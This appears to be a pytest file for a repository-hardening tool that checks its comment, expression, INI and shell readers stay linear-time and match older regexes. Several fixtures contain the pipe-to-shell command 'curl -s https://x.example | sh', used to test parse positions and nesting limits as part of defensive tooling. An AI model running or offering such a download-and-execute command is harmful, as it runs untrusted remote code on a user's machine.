"""Issue 14, items 4 and 7: the readers' work grows with the input, not its square. Counted
or compared with the old regexes (as oracles), never timed: `benchmarks/bench_hostile.py`
measures the time."""

from __future__ import annotations

import random
import re
from typing import Any

import pytest

from repo_harden.readers.package_indexes import ini_settings
from repo_harden.readers.requirements import without_comment
from repo_harden.readers.source_map import SourceMap
from repo_harden.shell import analyser
from repo_harden.shell.analyser import blank_expressions, parse_shell

_OLD_COMMENT = re.compile(r"(^|\s+)#.*$")
_OLD_EXPRESSION = re.compile(r"\$\{\{.*?\}\}", re.DOTALL)
_OLD_INI = re.compile(r"^([^=:#;\s][^=:]*?)\s*[=:]\s*(.*)$")


def _texts(alphabet: str, count: int = 3000) -> list[str]:
    rng = random.Random(14)
    return ["".join(rng.choice(alphabet) for _ in range(rng.randint(0, 12))) for _ in range(count)]


def test_comments_are_cut_as_the_old_regex_cut_them() -> None:
    for line in _texts("a #\t="):
        assert without_comment(line) == _OLD_COMMENT.sub("", line), repr(line)


def test_expressions_are_blanked_as_the_old_regex_blanked_them() -> None:
    for text in _texts("${} \na"):
        old = _OLD_EXPRESSION.sub(lambda m: re.sub(r"[^\n]", "_", m.group()), text)
        assert blank_expressions(text) == old, repr(text)


def test_ini_settings_are_split_as_the_old_regex_split_them() -> None:
    for line in _texts("ab =:#; "):
        stripped = line.strip()
        if not stripped or stripped.startswith(("#", ";", "[")):
            continue
        old = _OLD_INI.match(stripped)
        new = list(ini_settings(f"{line}\n"))
        expected = old.group(2).split() if old else []
        assert [setting.value for setting in new] == expected, repr(line)


@pytest.mark.parametrize("char", ["é", "€", "😀"])
def test_positions_after_multibyte_characters_are_right(char: str) -> None:
    text = f"echo {char}{char} && curl -s https://x.example | sh\n" * 3
    script = parse_shell(SourceMap.verbatim(text))
    curls = [command for command in script.commands if command.name == "curl"]
    assert [(c.at.line, c.at.column) for c in curls] == [(1, 12), (2, 12), (3, 12)]
    assert [c.raw for c in curls] == ["curl -s https://x.example"] * 3


def test_a_non_ascii_script_is_never_decoded_again(monkeypatch: pytest.MonkeyPatch) -> None:
    """The old reader decoded the prefix of the script (`data[:byte]`) for each node once
    one character was not ASCII: quadratic. Now a byte offset is found by a binary search
    over the multibyte characters, and the bytes are never sliced."""
    slices = 0

    class Counting(bytes):
        def __getitem__(self, index: Any) -> Any:
            nonlocal slices
            slices += 1
            return super().__getitem__(index)

    text = "#!/bin/sh\n" + "echo 'café'\n" * 2000
    monkeypatch.setattr(analyser, "_Reader", _counting_reader(analyser._Reader, Counting))
    script = parse_shell(SourceMap.verbatim(text))
    assert len(script.commands) == 2000
    assert script.commands[-1].at.line == 2001
    assert slices == 0


def _counting_reader(reader: type, data_type: type) -> type:
    class Reader(reader):  # type: ignore[misc]
        def __init__(self, source: SourceMap, data: bytes, offsets: object) -> None:
            super().__init__(source, data_type(data), offsets)

    return Reader


def test_nesting_past_the_limit_is_a_problem_of_that_script_only() -> None:
    levels = analyser.MAX_DEPTH * 10
    deep = "( " * levels + "curl -s https://x.example | sh" + " )" * levels
    script = parse_shell(SourceMap.verbatim(deep))
    assert script.too_deep
    assert script.error is not None
    shallow = parse_shell(SourceMap.verbatim("( ( curl -s https://x.example | sh ) )"))
    assert not shallow.too_deep
    assert [c.name for c in shallow.commands] == ["curl", "sh"]
